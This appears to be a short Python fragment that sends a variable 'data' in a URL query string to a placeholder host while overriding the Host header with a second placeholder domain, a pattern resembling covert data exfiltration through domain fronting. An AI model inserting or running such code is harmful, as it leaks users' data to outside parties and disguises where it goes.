r = Request("https://example.org/p?d=" + data, headers={"Host": "c.example.invalid"})
urlopen(r)
